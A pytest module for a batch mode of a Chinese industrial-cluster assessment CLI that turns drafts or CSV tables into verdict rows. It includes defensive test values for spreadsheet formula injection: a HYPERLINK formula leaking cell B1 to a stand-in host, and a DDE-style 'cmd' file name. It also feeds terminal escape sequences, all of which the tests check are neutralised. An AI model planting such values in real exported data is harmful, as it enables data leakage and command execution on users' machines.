"""Many drafts, one line each: the same verdicts as one by one, in order, as they come; one bad draft never stops the run."""

import csv
import io
import json
import subprocess
import sys

import pytest
from hypothesis import given, settings

from rules import __main__ as terminal
from rules import batch
from rules.batch import header, rows
from rules.draft import BadDraft
from rules.facts import NONE, UNSURE

from . import CALM, NOTICE, ROOT, draft, full_draft, report, thrown, typed
from .test_boundaries import ROWS
from .test_properties import some_of, tried

EXAMPLES = [example.given for group in NOTICE.groups for example in group.examples] + [case.given for case in NOTICE.cases]
SEVERAL = [{}, full_draft(), *EXAMPLES, *(given for _, _, given, _ in ROWS)]


def piped(table):
    """Through a pipe into a process of its own: what it says, and its code."""
    done = subprocess.run([sys.executable, "-m", "rules", "assess", "--batch", "-"], cwd=ROOT, input=table, capture_output=True)
    return done.returncode, list(csv.reader(io.StringIO(done.stdout.decode()))), done.stderr.decode()


@pytest.fixture
def run(tmp_path_factory, capsys):
    """The same command in this process, on a folder or file that is there, or on a table as bytes."""
    def run(given):
        if isinstance(given, bytes):
            path = tmp_path_factory.mktemp("table") / "t.csv"
            path.write_bytes(given)
        code = terminal.main(["assess", "--batch", str(path if isinstance(given, bytes) else given)])
        table, said = capsys.readouterr()
        return code, list(csv.reader(io.StringIO(table))), said
    return run


def test_the_verdict_alone_is_that_of_the_finding():
    for answers in map(typed, SEVERAL):
        for criterion in NOTICE.criteria:
            assert criterion.requires.verdict(answers) == criterion.requires.assess(answers).verdict, criterion.locator


EACH = {criterion.locator: {cell: [*tried(cell), NONE, UNSURE] for cell in criterion.requires.found.cells} for criterion in NOTICE.criteria}


@settings(CALM)
@given(thrown(lambda dice: {locator: {cell: dice.choice(each[cell]) for cell in some_of(list(each), dice)} for locator, each in EACH.items()}))
def test_the_verdict_alone_is_that_of_the_finding_whatever_is_answered(dealt):
    for criterion in NOTICE.criteria:
        answers = dealt[criterion.locator]
        assert criterion.requires.verdict(answers) == criterion.requires.assess(answers).verdict, criterion.locator


def test_a_row_says_what_the_report_says_and_nothing_is_made_for_it_that_pydantic_would_have_to_check(monkeypatch):
    """In a browser the compiled half of pydantic comes after the first verdict."""
    monkeypatch.setattr("pydantic.BaseModel.__init__", None)
    for answers, row in zip(SEVERAL, rows(("x", draft(answers)) for answers in SEVERAL), strict=True):
        said, line = report(answers), dict(zip(header(NOTICE), row, strict=True))
        assert line == {"名称": "x", "总体": said["overall"]["text"], "问题": line["问题"], "说明": said["disclaimer"]} | {
            item["locator"]: item["word"] for item in said["criteria"]}
        assert ("没有读懂" in line["问题"]) == bool(said["complaints"]) and ("请先核对" in line["问题"]) == bool(said["warnings"]) and said["unsure"] in line["问题"]


@pytest.mark.parametrize("table, trouble", [
    ("名称,output.2022,area\n甲,1,200,4.5\n", "这一行比表头多出几格；数字里有逗号的，请把整格加上引号。"),
    ("名称,plan_approach\n甲,思路一；思路二\n", ""),
    ("名称,chain_work\n甲,chain_map；joint_supply\n", ""),
    ("名称,chain_work\n甲,chain_map；joint_supply；\n", ""),
    ("名称,chain_work\n甲,chain_map；\n", ""),
    ("名称,chain_work\n甲,；无； ；\n", ""),
    ("名称,chain_work\n甲,； ；\u200b；\n", ""),
    ("名称,chain_work\n甲,chain_map；；没有的；\n", "1 处没有读懂（chain_work）：「没有的」不在选项里，未计入。"),
    ("名称,area\n甲,三点五亿\n", "1 处没有读懂（area）：「三点五亿」不是能确认的数字，请只填数字，例如 31.20。没有相关情况请填「无」。"),
    ("名称,area,output.2021\n甲,12,很多\n", "1 处没有读懂（output.2021）：「很多」不是能确认的数字，请只填数字，例如 31.20。没有相关情况请填「无」。"),
    ("名称,output.2021,area\n甲,很多,三点五亿\n", "2 处没有读懂，第一处（output.2021）：「很多」不是能确认的数字，请只填数字，例如 31.20。没有相关情况请填「无」。"),
    ("名称,area,,\n甲,12,,\n", ""),
    ("名称,area,output.2020\n甲,不确定,1.1.1\n", "1 处没有读懂（output.2020）：「1.1.1」不是能确认的数字，请只填数字，例如 31.20。没有相关情况请填「无」。有 1 条因为答了「暂不清楚」还没有结论，请先查清。"),
    ("名称,output.2022\n甲,312000\n", "请先核对（output.2022）：2022 年集群总产值（312,000.00 亿元）数额很大，单位应为亿元；若是万元数，请写成「312000万元」。"),
    ("名称,area,platform_rate\n甲,0,0.6\n", "请先核对（platform_rate）：工业互联网平台应用普及率按 0.60% 算；若是 60.00%，请填 60。"),
    ("名称,area,,\n甲,1,200,\n", "这一行比表头多出几格；数字里有逗号的，请把整格加上引号。"),
])
def test_what_a_row_has_that_cannot_be_meant_is_said(table, trouble, run):
    code, (_, line), _ = run(table.encode())
    assert code == 0 and line[0] == "甲" and line[-2] == trouble and (line[1] == "") == ("多出" in trouble)


@pytest.mark.parametrize("ticks, word", [("chain_map；chain_leader；", "满足"), ("；无；", "不满足"), ("；", "待补充")])
def test_nothing_between_two_marks_is_no_tick(ticks, word, run):
    _, (heads, line), _ = run(f"名称,chain_work\n甲,{ticks}\n".encode())
    assert dict(zip(heads, line))["3-5"] == word


@pytest.mark.parametrize("fields, word", [("integrated_circuits", "属重点支持"), ("consumer_goods", "属重点支持"), ("无", "未列重点支持"), ("", "待补充")])
def test_a_preference_is_said_in_the_words_of_the_report(fields, word, run):
    _, (heads, line), _ = run(f"名称,area,industry_field\n甲,12,{fields}\n".encode())
    assert dict(zip(heads, line))["基-6"] == word


@pytest.mark.parametrize("table, says", [
    ("名称,area,area\n甲,9,\n", "重复的栏：area"), ("名称,output,output.2022\n甲,不确定,80\n", "重复的栏：output.2022"),
    ('名称,area\n甲,"老厂\n乙,3\n丙,4\n', "引号没有成对"),
])
def test_a_table_that_says_a_thing_twice_or_never_ends_is_refused(table, says, run):
    code, lines, said = run(table.encode())
    assert (code, lines) == (2, []) and says in said


def test_a_table_of_very_many_columns_is_looked_through_once():
    """To hold each name against all the others would take an hour."""
    columns = ["名称", *(f"output.{n}" for n in range(400_000)), "output.7"]
    assert batch.columns_of(columns[:-1]) == columns[:-1]
    with pytest.raises(BadDraft, match="重复的栏：output.7。"):
        batch.columns_of(columns)


def test_columns_that_are_no_question_are_said_once(run):
    code, lines, said = run("名称,area,备注,output.2019,area_\n甲,12,好,1,\n乙,13,好,2,3\n".encode())
    assert (code, [line[-2] for line in lines[1:]]) == (0, ["", ""]) and said == "表中有几栏不是本通知的栏目，没有计入：备注、output.2019、area_。\n"


def test_a_line_without_any_value_is_no_cluster_and_counts_as_a_line(run):
    """As a spreadsheet numbers its lines: one with two lines of text in a cell is one."""
    code, lines, _ = run(' 名称 ,area\n"甲\n乙",1\n\n,\n ,2\n,  \n,3\n'.encode())
    assert code == 0 and [line[0] for line in lines[1:]] == ["甲\n乙", "第 5 行", "第 7 行"]


NAMES = {"=HYPERLINK(\"http://x/\"&B1)": "'=HYPERLINK(\"http://x/\"&B1)", "+1": "'+1", "-1": "'-1", "@SUM(1)": "'@SUM(1)", "＝1": "'＝1", "\x1b[2J\u202e甲": "[2J甲", "\x1b=1": "'=1", "a=1": "a=1"}


def test_no_name_is_run_by_a_spreadsheet_or_a_terminal(run):
    table = io.StringIO(newline="")
    csv.writer(table).writerows([["名称", "area"], *([name, "5"] for name in NAMES)])
    code, lines, _ = run(table.getvalue().encode())
    assert code == 0 and [line[0] for line in lines[1:]] == list(NAMES.values())


def test_nor_is_the_name_of_a_file(tmp_path, run):
    (tmp_path / "=1+cmd|' !A1.json").write_text(draft({}))
    (tmp_path / "\x1b[31mred.json").mkdir()
    _, lines, _ = run(tmp_path)
    assert [line[0] for line in lines[1:]] == ["[31mred.json", "'=1+cmd|' !A1.json"] and "red.json 是文件夹" in lines[1][-2] and "\x1b" not in lines[1][-2]


def test_rows_come_as_drafts_come():
    asked = []

    def coming():
        for number in range(3):
            asked.append(number)
            yield str(number), draft({})

    assert next(iter(rows(coming())))[0] == "0"
    assert asked == [0]


def test_no_bad_draft_stops_a_folder(tmp_path, run):
    files = {"a.json": draft({"area": "12"}), "b.json": "{", "c.json": "[]", "d.json": json.dumps({"notice": "beijing-2024", "answers": {}}),
             "e.json": b"\xff\xfe\x00", "f.json": draft({"area": "很大", "nowhere": 1}), "h.json": "[" * 100_000, "i.html": "<p>别的</p>", "z.json": draft({"area": "101"})}
    for name, text in files.items():
        (tmp_path / name).write_bytes(text if isinstance(text, bytes) else text.encode())
    (tmp_path / "g.json").mkdir()
    (tmp_path / "notes.txt").write_text("not a draft")
    code, table, said = run(tmp_path)
    assert code == 0 and said == ""
    lines = {line[0]: dict(zip(table[0], line, strict=True)) for line in table[1:]}
    assert list(lines) == sorted([*files, "g.json"])
    assert lines["a.json"]["基-2"] == "满足" and lines["z.json"]["基-2"] == "需评审判断" and lines["a.json"]["问题"] == ""
    for name in ("b.json", "c.json", "d.json", "e.json", "g.json", "h.json", "i.html"):
        assert lines[name]["问题"].endswith("。") and lines[name]["总体"] == ""
    assert lines["f.json"]["问题"].startswith("2 处没有读懂，第一处（area）：") and "--batch" not in lines["g.json"]["问题"] and lines["f.json"]["基-2"] == "待补充"


def test_no_draft_of_a_folder_is_passed_over(tmp_path, run):
    for name in ("a.JSON", "b.json", "c.htm", "d.Html", "e.txt"):
        (tmp_path / name).write_text(draft({}))
    assert [line[0] for line in run(tmp_path)[1][1:]] == ["a.JSON", "b.json", "c.htm", "d.Html"]


def test_a_folder_without_drafts_is_refused(tmp_path, run):
    (tmp_path / "notes.txt").write_text("not a draft")
    assert run(tmp_path) == (2, [], f"无法自测：文件夹 {tmp_path} 里没有草稿（.json、.html）。\n")


TABLE = '名称,area,output.2020,output.2021,output.2022,chain_work,cluster_name\r\n甲,12,30,40,50,joint_supply；chain_leader,"两行的\n名字"\r\n,101,29.99,40,50,无,\r\n丙,多少,,,,没有的勾选,{0}\r\n'.format("长" * 200_000)


@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "gb18030"])
def test_a_table_as_a_spreadsheet_saves_it(tmp_path, encoding, run):
    (tmp_path / "t.csv").write_bytes(TABLE.encode(encoding))
    code, table, said = run(tmp_path / "t.csv")
    lines = [dict(zip(table[0], line, strict=True)) for line in table[1:]]
    assert code == 0 and said == ""
    assert [line["名称"] for line in lines] == ["甲", "第 3 行", "丙"]
    assert [line["基-2"] for line in lines] == ["满足", "需评审判断", "待补充"]
    assert [line["1-1"] for line in lines] == ["满足", "不满足", "待补充"]
    assert [line["3-5"] for line in lines] == ["满足", "不满足", "待补充"]
    assert lines[2]["问题"].startswith("2 处没有读懂，第一处（area）：")


def test_a_table_may_come_through_a_pipe(run):
    assert piped(TABLE.encode()) == run(TABLE.encode()) == run(TABLE.encode("utf-8-sig")) == run(TABLE.encode("gb18030"))
    assert len(run(TABLE.encode())[1]) == 4


NO_TABLES = {"nowhere.csv": (None, "找不到文件"), "bad.csv": (b"\xff\xff\xff\xff", "不是 UTF-8 或 GBK 文本"), "binary.csv": (b"PK\x03\x04\x00\x00", "不是 UTF-8 或 GBK 文本"),
             "empty.csv": (b"", "没有「名称」"), "a draft.json": (draft({}).encode(), "是一份草稿，不是表；请去掉 --batch"), "long.csv": ("名称,area\n甲,".encode() + b"1" * 5_000_001, "一格太长")}


@pytest.mark.parametrize("name", NO_TABLES)
def test_what_is_no_table_is_refused_in_one_sentence(tmp_path, name, capsys):
    content, sentence = NO_TABLES[name]
    if content is not None:
        (tmp_path / name).write_bytes(content)
    code = terminal.main(["assess", "--batch", str(tmp_path / name)])
    table, said = capsys.readouterr()
    assert code == 2 and table == "" and said.startswith("无法自测：") and sentence in said and said.count("\n") == 1


def test_several_processors_give_the_rows_of_one(monkeypatch):
    monkeypatch.setattr(batch, "BLOCK", 64)
    drafts = [(str(number), draft({"area": str(number)})) for number in range(150)] + [("bad", "{")]
    assert list(batch.by_all_processors(iter(drafts))) == list(rows(drafts))


def test_no_more_than_a_block_is_held(monkeypatch):
    monkeypatch.setattr(batch, "BLOCK", 64)
    asked = []
    drafts = ((asked.append(number), (str(number), "{"))[1] for number in range(1000))
    got = batch.by_all_processors(drafts)
    assert next(got)[0] == "0" and len(asked) == 64
    got.close()
